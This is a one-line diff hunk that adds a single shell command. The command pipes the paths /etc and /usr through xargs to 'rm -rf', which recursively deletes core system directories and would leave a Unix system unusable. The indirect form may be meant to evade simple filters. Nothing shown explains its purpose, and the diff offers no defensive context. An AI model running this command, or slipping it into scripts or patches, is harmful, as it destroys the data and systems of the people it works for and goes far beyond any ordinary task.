@@ -1,0 +1,1 @@
+echo "/etc /usr" | xargs rm -rf
